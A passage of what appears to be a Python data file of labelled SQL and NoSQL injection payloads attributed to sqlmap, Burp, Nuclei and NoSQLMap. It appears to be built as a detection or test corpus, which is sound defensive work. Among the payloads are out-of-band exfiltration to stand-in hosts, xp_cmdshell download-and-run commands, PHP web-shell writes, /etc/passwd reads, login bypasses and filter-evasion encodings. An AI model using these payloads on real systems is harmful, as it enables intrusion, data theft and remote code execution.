    "1;DECLARE @host varchar(1024);SELECT @host=(SELECT TOP 1 master.dbo.fn_varbintohexstr(CAST(SYSTEM_USER AS VARBI"
    "NARY(64))))+'.qgn.oob.example.net';EXEC('master..xp_dirtree \"\\\\'+@host+'\\c$\"');--",
    # sqlmap --dns-domain on Oracle and PostgreSQL
    "1 AND 4591=(SELECT UTL_INADDR.GET_HOST_ADDRESS((SELECT user FROM DUAL)||'.qgn.oob.example.net') FROM DUAL)",
    "1;DROP TABLE IF EXISTS sqlmapdns;CREATE TABLE sqlmapdns(data text);COPY sqlmapdns FROM PROGRAM 'nslookup qgn.oo"
    "b.example.net'--",
    # Burp Scanner's Collaborator payloads (MySQL, SQL Server, Oracle, PostgreSQL)
    "'+(select load_file('\\\\\\\\k9x2q7.oastify.com\\\\mne'))+'",
    "';declare @q varchar(99);set @q='\\\\k9x2q7.oastify.com\\qox'; exec master.dbo.xp_dirtree @q;--",
    "'||(select extractvalue(xmltype('<?xml version=\"1.0\" encoding=\"UTF-8\"?><!DOCTYPE root [ <!ENTITY % remote S"
    "YSTEM \"http://k9x2q7.oastify.com/\"> %remote;]>'),'/l') from dual)||'",
    "';copy (select '') to program 'nslookup k9x2q7.oastify.com'--",
    "'||(SELECT UTL_INADDR.get_host_address('k9x2q7.oastify.com') FROM dual)||'",
    "'||(SELECT UTL_HTTP.request('http://k9x2q7.oastify.com/'||(SELECT user FROM dual)) FROM dual)||'",
    # Oracle HTTPURITYPE and DBMS_LDAP lookups (Ghauri, interaction checks)
    "1' AND 1=(SELECT HTTPURITYPE('http://qgn.oob.example.net/'||(SELECT user FROM DUAL)).GETCLOB() FROM DUAL)-- -",
    "1 AND 1=DBMS_LDAP.INIT((SELECT user FROM DUAL)||'.qgn.oob.example.net',80)",
    # PostgreSQL dblink to an attacker host
    "1;SELECT dblink_connect('host=qgn.oob.example.net user=a password=b dbname=c')--",
    "1' AND 1=(SELECT 1 FROM dblink('host='||(SELECT current_user)||'.qgn.oob.example.net user=a dbname=b','SELECT 1"
    "') RETURNS (r int))-- -",
    # PostgreSQL COPY ... TO PROGRAM with curl (Nuclei interaction check on a superuser connection)
    "1;COPY (SELECT current_user) TO PROGRAM 'curl http://qgn.oob.example.net/?u=$(whoami)'--",
    # sqlmap --file-read: LOAD_FILE as hex through the UNION column (MySQL), pg_read_file and lo_import (PG)
    "-4518 UNION ALL SELECT NULL,HEX(LOAD_FILE(0x2f6574632f706173737764)),NULL-- -",
    "1 AND LOAD_FILE('/etc/passwd') IS NOT NULL",
    "-4518 UNION ALL SELECT NULL,pg_read_file('/etc/passwd',0,200000),NULL-- -",
    "1;SELECT lo_import('/etc/passwd',31337)--",
    # sqlmap --file-write / --os-shell stager: LIMIT ... INTO OUTFILE ... LINES TERMINATED BY the PHP in hex
    "1 LIMIT 0,1 INTO OUTFILE '/var/www/html/tmpuqzkv.php' LINES TERMINATED BY 0x3c3f7068702073797374656d28245f52455"
    "1554553545b22636d64225d293b203f3e-- -",
    "-4518 UNION ALL SELECT 0x3c3f7068702073797374656d28245f524551554553545b22636d64225d293b203f3e,NULL INTO DUMPFIL"
    "E '/var/www/html/tmpbqzkv.php'-- -",
    "-4518' UNION SELECT NULL,'<?php system($_GET[\"c\"]); ?>',NULL INTO OUTFILE '/var/www/html/c.php'-- -",
    # SQL Server OPENROWSET BULK file read and UNC probes through xp_subdirs / xp_fileexist
    "-4518 UNION ALL SELECT NULL,(SELECT BulkColumn FROM OPENROWSET(BULK 'C:\\Windows\\win.ini',SINGLE_CLOB) AS x),N"
    "ULL-- -",
    "1;EXEC master..xp_subdirs '\\\\qgn.oob.example.net\\x'--",
    "1;EXEC master..xp_fileexist '\\\\qgn.oob.example.net\\x\\y'--",
    # SQL Server OPENROWSET to an attacker SQL server (outbound connection with the server's credentials)
    "1;SELECT * FROM OPENROWSET('SQLOLEDB','Network=DBMSSOCN;Address=203.0.113.50,1433;uid=sa;pwd=x','SELECT 1')--",
]

# information-schema/catalog probing: sqlmap's enumeration (--dbs, --tables, --columns, --count, --is-dba,
# --privileges), its -f fingerprint checks and the sys-schema fallbacks; target: MySQL, PostgreSQL, SQL Server,
# Oracle, SQLite, IBM DB2
CATALOG: list[Entry] = [
    # MySQL through the UNION column: schemas, tables of one schema, columns of one table
    "-4518 UNION ALL SELECT NULL,CONCAT(0x717a766b71,IFNULL(CAST(schema_name AS NCHAR),0x20),0x71626a7071),NULL FROM"
    " INFORMATION_SCHEMA.SCHEMATA-- -",
    "-4518 UNION ALL SELECT NULL,CONCAT(0x717a766b71,IFNULL(CAST(table_name AS NCHAR),0x20),0x71626a7071),NULL FROM "
    "INFORMATION_SCHEMA.TABLES WHERE table_schema IN (0x746573746462)-- -",
    "-4518 UNION ALL SELECT NULL,CONCAT(0x717a766b71,IFNULL(CAST(column_name AS NCHAR),0x20),0x6b7a,IFNULL(CAST(colu"
    "mn_type AS NCHAR),0x20),0x71626a7071),NULL FROM INFORMATION_SCHEMA.COLUMNS WHERE table_name=0x7573657273 AND ta"
    "ble_schema=0x746573746462-- -",
    # MySQL blind enumeration: the count, then each name by LIMIT (boolean inference)
    "1 AND ORD(MID((SELECT IFNULL(CAST(COUNT(DISTINCT(schema_name)) AS NCHAR),0x20) FROM INFORMATION_SCHEMA.SCHEMATA"
    "),1,1))>51",
    "1 AND ORD(MID((SELECT DISTINCT(IFNULL(CAST(schema_name AS NCHAR),0x20)) FROM INFORMATION_SCHEMA.SCHEMATA LIMIT "
    "1,1),3,1))>96",
    "1 AND ORD(MID((SELECT IFNULL(CAST(COUNT(table_name) AS NCHAR),0x20) FROM INFORMATION_SCHEMA.TABLES WHERE table_"
    "schema IN (0x746573746462)),1,1))>48",
    # --is-dba and --privileges (MySQL)
    "1 AND (SELECT (CASE WHEN ((SELECT super_priv FROM mysql.user WHERE user=0x726f6f74 LIMIT 0,1)=0x59) THEN 1 ELSE"
    " 0 END))=1",
    "-4518 UNION ALL SELECT NULL,CONCAT(0x717a766b71,grantee,0x6b7a,privilege_type,0x71626a7071),NULL FROM INFORMATI"
    "ON_SCHEMA.USER_PRIVILEGES-- -",
    # sqlmap -f: functions only one DBMS has (MySQL, SQL Server, Oracle, SQLite, PostgreSQL)
    "1 AND QUARTER(NULL) IS NULL",
    "1 AND CONNECTION_ID()=CONNECTION_ID()",
    "1 AND MID(@@version_comment,1,1)=MID(@@version_comment,1,1)",
    "1 AND BINARY_CHECKSUM(1)=BINARY_CHECKSUM(1)",
    "1 AND ROWNUM=ROWNUM",
    "1 AND LENGTH(SYSDATE)=LENGTH(SYSDATE)",
    "1 AND LAST_INSERT_ROWID()=LAST_INSERT_ROWID()",
    "1 AND SQLITE_VERSION()=SQLITE_VERSION()",
    "1 AND CONVERT_TO((CHR(115)||CHR(120)),QUOTE_IDENT(NULL)) IS NULL",
    # PostgreSQL catalog: pg_tables of the public schema, pg_namespace
    "-4518 UNION ALL SELECT NULL,(CHR(113)||CHR(122)||CHR(118)||CHR(107)||CHR(113))||COALESCE(CAST(tablename AS VARC"
    "HAR(10000))::text,(CHR(32)))||(CHR(113)||CHR(98)||CHR(106)||CHR(112)||CHR(113)),NULL FROM pg_tables WHERE schem"
    "aname IN ((CHR(112)||CHR(117)||CHR(98)||CHR(108)||CHR(105)||CHR(99)))-- -",
    "-4518 UNION ALL SELECT NULL,nspname,NULL FROM pg_namespace-- -",
    # SQL Server catalog: databases, user tables and views of one database, sysadmin membership
    "-4518 UNION ALL SELECT NULL,name,NULL FROM master..sysdatabases-- -",
    "-4518 UNION ALL SELECT NULL,testdb..sysobjects.name,NULL FROM testdb..sysobjects WHERE testdb..sysobjects.xtype"
    " IN (CHAR(117),CHAR(118))-- -",
    "1 AND 1=(SELECT IS_SRVROLEMEMBER(CHAR(115)+CHAR(121)+CHAR(115)+CHAR(97)+CHAR(100)+CHAR(109)+CHAR(105)+CHAR(110)))",
    # Oracle catalog
    "-4518 UNION ALL SELECT NULL,OWNER||CHR(58)||TABLE_NAME,NULL FROM SYS.ALL_TABLES-- -",
    "-4518 UNION ALL SELECT NULL,COLUMN_NAME,NULL FROM SYS.ALL_TAB_COLUMNS WHERE TABLE_NAME=CHR(85)||CHR(83)||CHR(69"
    ")||CHR(82)||CHR(83)-- -",
    # SQLite catalog
    "-4518 UNION ALL SELECT NULL,tbl_name,NULL FROM sqlite_master WHERE type='table'-- -",
    # MySQL without information_schema (Ghauri fallbacks): sys schema and InnoDB statistics
    "-4518 UNION ALL SELECT NULL,GROUP_CONCAT(table_name),NULL FROM sys.schema_table_statistics WHERE table_schema=D"
    "ATABASE()-- -",
    "-4518 UNION ALL SELECT NULL,GROUP_CONCAT(database_name,0x3a,table_name),NULL FROM mysql.innodb_table_stats-- -",
    # Nuclei version-disclosure check
    "1' UNION SELECT NULL,@@version,NULL-- -",
    # IBM DB2 (sqlmap)
    "-4518 UNION ALL SELECT NULL,NAME,NULL FROM SYSIBM.SYSTABLES-- -",
]

# mysql-comment-obfuscation: sqlmap's comment tamper scripts as they rewrite its own payloads (space2comment,
# space2morecomment, versionedkeywords, versionedmorekeywords, halfversionedmorekeywords, modsecurityversioned,
# modsecurityzeroversioned, randomcomments, commentbeforeparentheses, informationschemacomment, bluecoat,
# space2mssqlblank, space2randomblank, multiplespaces); target: MySQL/MariaDB (executable comments), and the
# DBMS lexers that take any comment or blank as whitespace (PostgreSQL, SQL Server, SQLite)
MYCOMMENT: list[Entry] = [
    # space2comment
    "1/**/AND/**/7104=7104",
    "-6543/**/UNION/**/ALL/**/SELECT/**/NULL,NULL,NULL--/**/-",
    "1'/**/AND/**/SLEEP(5)#",
    # space2morecomment
    "1/**_**/AND/**_**/7104=7104",
    "-6543/**_**/UNION/**_**/ALL/**_**/SELECT/**_**/NULL,NULL--/**_**/-",
    # versionedkeywords and versionedmorekeywords
    "1/*!UNION*//*!ALL*//*!SELECT*/NULL,CONCAT(0x717a766b71,0x4d4a,0x71626a7071),NULL#",
    "1/*!AND*/7104=7104",
    "1/*!UNION*//*!ALL*//*!SELECT*//*!CONCAT*/(0x717a766b71,/*!USER*/(),0x71626a7071)#",
    # halfversionedmorekeywords
    "value'/*!0UNION/*!0ALL/*!0SELECT/*!0CONCAT(/*!0CHAR(58,107,112,113,58),/*!0IFNULL(CAST(/*!0CURRENT_USER()/*!0AS"
    "/*!0CHAR),/*!0CHAR(32)),/*!0CHAR(58,97,110,121,58)),/*!0NULL,/*!0NULL#/*!0AND 'QDWa'='QDWa",
    "1/*!0AND/*!0 7104=7104",
    # modsecurityversioned and modsecurityzeroversioned: the whole condition inside a versioned comment
    "1 /*!30874AND 2>1*/--",
    "1' /*!50000AND 7104=7104*/-- -",
    "1 /*!00000AND 2>1*/--",
    "1' /*!00000UNION ALL SELECT NULL,@@version,NULL*/-- -",
    # randomcomments: comments inside the keywords
    "1 A/**/ND 7104=7104",
    "-6543 UN/**/ION AL/**/L SEL/**/ECT NULL,NULL-- -",
    "1 AND SL/**/EEP(5)",
    # commentbeforeparentheses: /**/ before every '('
    "1 AND ELT/**/(7104=7104,1)",
    "1 AND SLEEP/**/(5)",
    "-6543 UNION ALL SELECT NULL,CONCAT/**/(0x717a766b71,DATABASE/**/(),0x71626a7071)-- -",
    # informationschemacomment
    "-6543 UNION ALL SELECT NULL,table_name FROM INFORMATION_SCHEMA/**/.TABLES-- -",
    # bluecoat: the blank after a keyword becomes a tab and '=' becomes LIKE
    "1 AND\t7104 LIKE 7104",
    # space2mssqlblank and space2randomblank: other bytes the lexer reads as blanks (SQL Server, MySQL)
    "1\x01AND\x0e7104=7104",
    "1\rAND\n7104=7104",
    "-6543\x0bUNION\x0cALL\x0bSELECT\x0cNULL,NULL",
    # multiplespaces
    "1    AND      7104=7104",
    # a versioned comment around the whole UNION (MySQL, MariaDB)
    "-6543 /*!12345UNION SELECT*/ NULL,user(),NULL-- -",
    # space2comment and versionedkeywords chained in one --tamper run
    "1/**//*!AND*//**/SLEEP(5)",
    # MySQL comment between a function name and its '(' hides the call from naive matching
    "-6543 UNION ALL SELECT NULL,version/*qzvk*/(),NULL-- -",
]

# function-based-probing: sqlmap's inference queries (the character bisection, the length, the tamper variants
# that swap functions: ord2ascii, substring2leftright, commalessmid, greatest, least, ifnull2ifisnull,
# ifnull2casewhenisnull, concat2concatws, plus2concat, plus2fnconcat), Havij's substring probes; target: MySQL,
# PostgreSQL, SQL Server, Oracle, SQLite
FUNCTION: list[Entry] = [
    # MySQL ORD/MID bisection on one character, and the length first
    "1 AND ORD(MID((IFNULL(CAST(DATABASE() AS NCHAR),0x20)),1,1))>64",
    "1 AND ORD(MID((IFNULL(CAST(CURRENT_USER() AS NCHAR),0x20)),5,1))>112",
    "1' AND ORD(MID((SELECT IFNULL(CAST(password AS NCHAR),0x20) FROM testdb.users ORDER BY id LIMIT 0,1),1,1))>96-- -",
    "1 AND LENGTH(IFNULL(CAST(DATABASE() AS NCHAR),0x20))>6",
    "1 AND CHAR_LENGTH(@@version)>10",
    # ord2ascii and substring2leftright
    "1 AND ASCII(MID((IFNULL(CAST(DATABASE() AS NCHAR),0x20)),1,1))>64",
    "1 AND ASCII(RIGHT(LEFT((IFNULL(CAST(DATABASE() AS NCHAR),0x20)),1),1))>64",
    # commalessmid (no commas)
    "1 AND ORD(MID((IFNULL(CAST(DATABASE() AS NCHAR),0x20)) FROM 1 FOR 1))>64",
    # greatest and least ('>' replaced)
    "1 AND GREATEST(ORD(MID((IFNULL(CAST(DATABASE() AS NCHAR),0x20)),1,1)),65)=ORD(MID((IFNULL(CAST(DATABASE() AS NC"
    "HAR),0x20)),1,1))",
    "1 AND LEAST(ORD(MID((IFNULL(CAST(DATABASE() AS NCHAR),0x20)),1,1)),65)=65",
    # ifnull2ifisnull and ifnull2casewhenisnull
    "1 AND ORD(MID((IF(ISNULL(CAST(DATABASE() AS NCHAR)),0x20,CAST(DATABASE() AS NCHAR))),1,1))>64",
    "1 AND ORD(MID((CASE WHEN ISNULL(CAST(USER() AS NCHAR)) THEN (0x20) ELSE CAST(USER() AS NCHAR) END),1,1))>64",
    # PostgreSQL
    "1 AND ASCII(SUBSTRING((COALESCE(CAST(CURRENT_USER AS VARCHAR(10000))::text,(CHR(32))))::text FROM 1 FOR 1))>64",
    "1 AND LENGTH(COALESCE(CAST(CURRENT_DATABASE() AS VARCHAR(10000))::text,(CHR(32))))>4",
    # SQL Server
    "1 AND UNICODE(SUBSTRING((ISNULL(CAST(DB_NAME() AS NVARCHAR(4000)),CHAR(32))),1,1))>64",
    "1 AND LEN(ISNULL(CAST(SYSTEM_USER AS NVARCHAR(4000)),CHAR(32)))>2",
    # Oracle
    "1 AND ASCII(SUBSTRC((NVL(CAST(USER AS VARCHAR(4000)),CHR(32))),1,1))>64",
    "1 AND LENGTH(NVL(CAST(USER AS VARCHAR(4000)),CHR(32)))>3",
    # SQLite
    "1 AND UNICODE(SUBSTR((SELECT COALESCE(sqlite_version(),CHAR(32))),1,1))>50",
    # time-based inference: the bit decides the delay (MySQL)
    "1 AND IF(ORD(MID((IFNULL(CAST(DATABASE() AS NCHAR),0x20)),1,1))>64,SLEEP(5),0)",
    # concat2concatws (MySQL), plus2concat and plus2fnconcat (SQL Server)
    "-4518 UNION ALL SELECT NULL,CONCAT_WS(MID(CHAR(0),0,0),0x717a766b71,USER(),0x71626a7071),NULL-- -",
    "-4518 UNION ALL SELECT NULL,CONCAT(CHAR(113),CHAR(122),CHAR(118),SYSTEM_USER,CHAR(113)),NULL-- -",
    "-4518 UNION ALL SELECT NULL,{fn CONCAT({fn CONCAT(CHAR(113),DB_NAME())},CHAR(113))},NULL-- -",
    # Havij and jSQL substring probes (MySQL)
    "1 and substring(@@version,1,1)=5",
    "1 and ascii(substring((select concat(username,0x3a,password) from users limit 0,1),1,1))>80",
    # Nuclei: compare a function's output to its known value (MySQL)
    "1 AND MD5(1)='c4ca4238a0b923820dcc509a6f75849b'",
    # bitwise inference, one bit per request (Ghauri-style, MySQL)
    "1 AND (ASCII(SUBSTRING(DATABASE(),1,1))&64)=64",
]

# sql-authentication-bypass: sqlmap --forms --risk 3 against a login form, Nuclei login-bypass templates for PHP
# apps (whole form bodies), Burp Scanner against a JSON login, a Bearer-token lookup; target: the login query of
# MySQL, SQL Server, Oracle and PostgreSQL back ends
AUTH: list[Entry] = [
    # sqlmap --risk 3: OR boolean against the username
    "admin' OR 3321=3321-- eYtQ",
    "-8741' OR 3321=3321#",
    "admin') OR 3321=3321-- -",
    "admin\" OR 3321=3321-- -",
    # comment out the password check (MySQL)
    "admin'-- -",
    "admin')#",
    "admin' #",
    "admin'/*",
    # Nuclei login-bypass templates (Sourcecodester and PHPGurukul-style apps), whole form bodies
    kv("username=admin' or '1'='1'#&password=nuclei"),
    kv("username=admin'or 1=1-- -&password=admin"),
    kv("email=admin@example.com' or 1=1#&password=x&login="),
    kv("login=' or ''='&pass=' or ''='"),
    # a forged row with a known MD5 password (MySQL): the app compares its own hash
    "' UNION SELECT 1,'admin','21232f297a57a5a743894a0e4a801fc3',1-- -",
    "nouser' UNION ALL SELECT NULL,'admin',MD5('sqlmap'),NULL#",
    # exactly one row for apps that check the row count
    "' OR 1=1 LIMIT 1-- -",
    "' OR 1=1 ORDER BY 1 LIMIT 1#",
    # SQL Server, Oracle and PostgreSQL logins
    "admin';--",
    "' OR 1=1;--",
    "' OR 1=1 AND ROWNUM=1--",
    "' OR TRUE--",
    # the password field instead of the username
    kv("username=admin&password=' OR '1'='1"),
    kv("user=admin&pass=x' OR 'x'='x"),
    kv("username=administrator&password=anything') OR ('1'='1"),
    # MySQL backslash trick: the username escapes its closing quote, the password field carries the condition
    kv("username=admin\\&password= OR 1=1-- -"),
    # Burp Scanner against a JSON login API
    jb('{"username":"admin\' OR 1=1-- -","password":"x"}'),
    jb('{"email":"\' OR \'1\'=\'1\'--","password":"nuclei"}'),
    # a Bearer token looked up with string concatenation
    ("Bearer x' OR '1'='1", "header:Authorization", "rs-header:Authorization"),
    ("Bearer ' UNION SELECT 1,'admin',1-- -", "header:Authorization", "rs-header:Authorization"),
]

# nosql-injection: NoSQLMap's web-app attacks (bracket operators on a login form, $where JavaScript injection,
# the timing loop), the nosqli scanner's probes, Nuclei's MongoDB checks, and the same operators in JSON logins;
# target: MongoDB behind PHP or Express (body-parser, qs)
NOSQL: list[Entry] = [
    # NoSQLMap: bracket operators on a login form (PHP and Express turn them into objects)
    kv("username[$ne]=nosqlmap&password[$ne]=nosqlmap"),
    kv("username=admin&password[$ne]="),
    kv("username[$gt]=&password[$gt]="),
    kv("username[$regex]=^adm&password[$regex]=.*"),
    kv("username[$in][]=admin&username[$in][]=root&password[$ne]=1"),
    kv("username[$exists]=true&password[$exists]=true"),
    kv("username[$nin][]=guest&password[$gt]="),
    kv("password[$regex]=^a.*&username=admin"),
    kv("username[$ne]=1&password[$where]=1"),
    # the same operators in a JSON login body
    jb('{"username":{"$ne":null},"password":{"$ne":null}}'),
    jb('{"username":"admin","password":{"$gt":""}}'),
    jb('{"username":{"$regex":"^admin"},"password":{"$regex":"^.{8,}$"}}'),
    jb('{"username":{"$in":["admin","administrator","root"]},"password":{"$ne":"x"}}'),
    jb('{"$where":"sleep(5000) || true"}'),
    jb('{"username":"admin","$or":[{},{"password":"x"}]}'),
    jb('{"$expr":{"$eq":[1,1]},"username":"admin"}'),
    # NoSQLMap JavaScript injection into a $where string
    "a'; return true; var dummy='!",
    "a'; return db.users.find(); var dummy='!",
    "a'; return this.a != 'b'; var dummy='!",
    "'; var date = new Date(); var curDate = null; do { curDate = new Date(); } while((Math.abs(date.getTime()-curDa"
    "te.getTime()))/1000 < 10); return; var dummy='!",
    "1; return true",
    "0;return true",
    # NoSQLMap injection into a JavaScript object literal
    "true, $where: '1 == 1'",
    ", $where: '1 == 1'",
    "1, $where: '1 == 1'",
    # nosqli probes: string terminator and JavaScript boolean pairs
    "admin' && this.password.match(/.*/)//",
    "' || 'a'=='a",
    "';sleep(5000);'",
    "' && this.username.match(/^adm/) && 'a'=='a",
    # Nuclei MongoDB check: $where string with a JavaScript error on purpose
    "';throw new Error(JSON.stringify(this));'",
]

# hex/char encoding: sqlmap's encoding tamper scripts as they leave the tool (charencode, chardoubleencode,
# charunicodeencode, percentage, overlongutf8, unmagicquotes, apostrophenullencode, apostrophemask,
# charunicodeescape, base64encode, htmlencode, escapequotes, hex2char), its --hex retrieval, hex and CHAR()
# literals instead of quotes, Havij's hex file names; target: MySQL, SQL Server (ASP %u decoding), PostgreSQL,
# Oracle, and the application layer that decodes before it builds the SQL
ENCODING: list[Entry] = [
    # charencode: every character percent-encoded once (1 AND 8463=8463; -4518 UNION ALL SELECT NULL,NULL-- -)
    rq("id=%31%20%41%4E%44%20%38%34%36%33%3D%38%34%36%33"),
    rq(
        "id=%2D%34%35%31%38%20%55%4E%49%4F%4E%20%41%4C%4C%20%53%45%4C%45%43%54%20%4E%55%4C%4C%2C%4E%55%4C%4C%2D%2D%20"
        "%2D"
    ),
    # chardoubleencode: double percent-encoding (1 AND SLEEP(5))
    rq("id=%2531%2520%2541%254E%2544%2520%2553%254C%2545%2545%2550%2528%2535%2529"),
    # charunicodeencode: %uXXXX, decoded by ASP/ASP.NET (1 AND 7617=7617)
    rq("id=%u0031%u0020%u0041%u004E%u0044%u0020%u0037%u0036%u0031%u0037%u003D%u0037%u0036%u0031%u0037"),
    # percentage: '%' before each letter, which ASP drops (1 UNION ALL SELECT NULL,NULL-- -)
    rq("id=1%20%U%N%I%O%N%20%A%L%L%20%S%E%L%E%C%T%20%N%U%L%L%2C%N%U%L%L--%20-"),
    # overlongutf8: non-alphanumerics as overlong UTF-8 (1 AND 7617=7617; 1' OR '1'='1)
    rq("id=1%C0%A0AND%C0%A07617%C0%BD7617"),
    rq("id=1%C0%A7%C0%A0OR%C0%A0%C0%A71%C0%A7%C0%BD%C0%A71"),
    # unmagicquotes: %BF%27 swallows addslashes' backslash on a GBK connection (MySQL)
    rq("id=1%BF%27 AND 7617=7617-- -"),
    # apostrophenullencode: %00%27
    rq("id=1%00%27 AND 7617=7617-- -"),
    # apostrophemask: the fullwidth apostrophe, folded to ' by Unicode-normalising stacks
    "1\uff07 AND 7617=7617-- -",
    "admin\uff07 OR \uff071\uff07=\uff071",
    # charunicodeescape: \uXXXX text for JSON/JavaScript-decoding back ends (1 AND 7617=7617)
    "\\u0031\\u0020\\u0041\\u004e\\u0044\\u0020\\u0037\\u0036\\u0031\\u0037\\u003d\\u0037\\u0036\\u0031\\u0037",
    # base64encode: for parameters the application base64-decodes (1' AND SLEEP(5)-- -; 1 AND 8234=8234)
    "MScgQU5EIFNMRUVQKDUpLS0gLQ==",
    "MSBBTkQgODIzND04MjM0",
    # htmlencode: non-alphanumerics as HTML entities (1' AND 7617=7617-- -)
    "1&#39;&#32;AND&#32;7617&#61;7617&#45;&#45;&#32;&#45;",
    # escapequotes: backslash-escaped quotes for back ends that strip one level of escaping
    "1\\' AND 7617=7617-- -",
    # sqlmap --hex: retrieval wrapped in HEX() so any charset survives (MySQL)
    "-4518 UNION ALL SELECT NULL,CONCAT(0x717a766b71,HEX(IFNULL(CAST(CURRENT_USER() AS NCHAR),0x20)),0x71626a7071),N"
    "ULL-- -",
    "1 AND ORD(MID((SELECT HEX(IFNULL(CAST(DATABASE() AS NCHAR),0x20))),1,1))>51",
    # hex literals instead of quoted strings (MySQL)
    "1 AND (SELECT COUNT(*) FROM INFORMATION_SCHEMA.TABLES WHERE table_schema=0x746573746462 AND table_name=0x757365"
    "7273)>0",
    "1 AND 0x61646d696e=(SELECT username FROM users LIMIT 1)",
    # CHAR() strings: MySQL CHAR(a,b,c), SQL Server CHAR(a)+CHAR(b), PostgreSQL/Oracle CHR(a)||CHR(b)
    "1 AND CHAR(97,100,109,105,110)=(SELECT username FROM users LIMIT 1)",
    "1 AND CHAR(97)+CHAR(100)+CHAR(109)+CHAR(105)+CHAR(110)=(SELECT TOP 1 username FROM users)",
    "1 AND CHR(97)||CHR(100)||CHR(109)||CHR(105)||CHR(110)=(SELECT username FROM users LIMIT 1)",
    # hex2char: 0x literals rewritten as CONCAT(CHAR(...)) (MySQL)
    "-4518 UNION ALL SELECT NULL,CONCAT(CONCAT(CHAR(113),CHAR(122),CHAR(118),CHAR(107),CHAR(113)),USER(),CONCAT(CHAR"
    "(113),CHAR(98),CHAR(106),CHAR(112),CHAR(113))),NULL-- -",
    # Havij: the file name as hex in LOAD_FILE (MySQL)
    "999999.9 union all select load_file(0x2f6574632f706173737764),0x31303235343830303536--",
    # SQL Server: a statement held as hex and run with EXEC (WAITFOR DELAY '0:0:5')
    "1;DECLARE @s VARCHAR(4000);SET @s=0x57414954464f522044454c41592027303a303a3527;EXEC(@s)--",
    # PostgreSQL: a string smuggled as hex through DECODE/CONVERT_FROM ('postgres')
    "1 AND 1=(SELECT 1 FROM pg_user WHERE usename=CONVERT_FROM(DECODE('706f737467726573','hex'),'UTF8'))",
    # MySQL UNHEX round trip in the UNION column
    "-4518 UNION ALL SELECT NULL,UNHEX(HEX(USER())),NULL-- -",
]

# stored-procedure/xp_cmdshell: sqlmap --os-cmd/--os-shell/--reg-read, PowerUpSQL and Metasploit-style command
# execution through the database's own procedures; target: SQL Server (xp_cmdshell, sp_configure, sp_OACreate,
# SQL Agent jobs, linked servers, xp_regread), PostgreSQL (C UDF, COPY FROM PROGRAM), MySQL (lib_mysqludf_sys),
# Oracle (DBMS_JAVA, DBMS_XMLQUERY)
PROC: list[Entry] = [
    # sqlmap --os-cmd on SQL Server: re-enable xp_cmdshell, run, read back
    "1;EXEC sp_configure 'show advanced options',1;RECONFIGURE;EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE--",
    "1;EXEC master..xp_cmdshell 'whoami'--",
    "1';EXEC master..xp_cmdshell 'ping -n 5 127.0.0.1'--",
    "1;DECLARE @cmd VARCHAR(8000);SET @cmd=0x77686f616d69;EXEC master..xp_cmdshell @cmd--",
    "1;INSERT INTO sqlmapoutput(data) EXEC master..xp_cmdshell 'ipconfig /all'--",
    "1;EXEC xp_cmdshell 'powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString(''http://203.0."
    "113.50/a.ps1'')\"'--",
    "1;EXEC master..xp_cmdshell 'certutil -urlcache -split -f http://203.0.113.50/nc.exe C:\\Windows\\Temp\\nc.exe'--",
    # sqlmap --reg-read
    "1;EXEC master..xp_regread 'HKEY_LOCAL_MACHINE','SOFTWARE\\Microsoft\\MSSQLServer\\Setup','SQLPath'--",
    "1;EXEC master..xp_instance_regread N'HKEY_LOCAL_MACHINE',N'SOFTWARE\\Microsoft\\MSSQLServer\\MSSQLServer',N'Bac"
    "kupDirectory'--",
    # OLE automation when xp_cmdshell is gone (PowerUpSQL)
    "1;EXEC sp_configure 'Ole Automation Procedures',1;RECONFIGURE--",
    "1;DECLARE @o INT;EXEC sp_OACreate 'WScript.Shell',@o OUT;EXEC sp_OAMethod @o,'Run',NULL,'cmd /c whoami > C:\\in"
    "etpub\\wwwroot\\o.txt'--",
    # SQL Agent job with a CmdExec step (PowerUpSQL / Metasploit)
    "1;EXEC msdb..sp_add_job 'sqlj';EXEC msdb..sp_add_jobstep @job_name='sqlj',@step_name='s',@subsystem='CMDEXEC',@"
    "command='whoami';EXEC msdb..sp_add_jobserver @job_name='sqlj';EXEC msdb..sp_start_job 'sqlj'--",
    # linked servers (PowerUpSQL Get-SQLServerLinkCrawl)
    "1;EXEC('xp_cmdshell ''whoami''') AT [LINKEDSRV]--",
    "1;SELECT * FROM OPENQUERY([LINKEDSRV],'SELECT @@version')--",
    # sp_executesql, impersonation, CLR
    "1;EXEC sp_executesql N'WAITFOR DELAY ''0:0:5'''--",
    "1;EXECUTE AS LOGIN='sa';EXEC master..xp_cmdshell 'whoami'--",
    "1;EXEC sp_configure 'clr enabled',1;RECONFIGURE--",
    "1;EXEC master..xp_servicecontrol 'start','schedule'--",
    # PostgreSQL: sqlmap's UDF (dropped with lo_export) and Metasploit's COPY FROM PROGRAM
    "1;CREATE OR REPLACE FUNCTION sys_eval(text) RETURNS text AS '/tmp/libsqlmapudfqzvk.so','sys_eval' LANGUAGE C RE"
    "TURNS NULL ON NULL INPUT IMMUTABLE--",
    "1;SELECT sys_eval('id')--",
    "1;DROP TABLE IF EXISTS cmd_exec;CREATE TABLE cmd_exec(cmd_output text);COPY cmd_exec FROM PROGRAM 'id';SELECT *"
    " FROM cmd_exec--",
    "1;SELECT lo_export(31337,'/tmp/libsqlmapudfqzvk.so')--",
    # MySQL: sqlmap's lib_mysqludf_sys
    "1;CREATE FUNCTION sys_exec RETURNS INT SONAME 'libsqlmapudfqzvk.so'#",
    "-4518 UNION ALL SELECT NULL,sys_eval('id'),NULL-- -",
    # Oracle: DBMS_JAVA.RUNJAVA and the DBMS_XMLQUERY autonomous-transaction grant
    "1 AND 1=(SELECT DBMS_JAVA.RUNJAVA('oracle/aurora/util/Wrapper /bin/bash -c id') FROM DUAL)",
    "1' AND 1=(SELECT DBMS_XMLQUERY.NEWCONTEXT('declare PRAGMA AUTONOMOUS_TRANSACTION; begin execute immediate ''gra"
    "nt dba to public''; commit; end;') FROM DUAL)-- -",
    # SQL Server: add a login and make it sysadmin (sqlmap --sql-query / PowerUpSQL)
    "1;EXEC sp_addlogin 'qzvk','Qzvk!2024';EXEC sp_addsrvrolemember 'qzvk','sysadmin'--",
]

# having/group-by/order-by probing: sqlmap's ORDER BY column counting and its techniques built for ORDER BY,
# GROUP BY and LIMIT positions, SQL Server's HAVING/GROUP BY column disclosure, Nuclei's sort-parameter checks and
# the Joomla list[fullordering] request; target: MySQL, PostgreSQL, SQL Server, Oracle, Joomla on MySQL
ORDER: list[Entry] = [
    # ORDER BY column counting
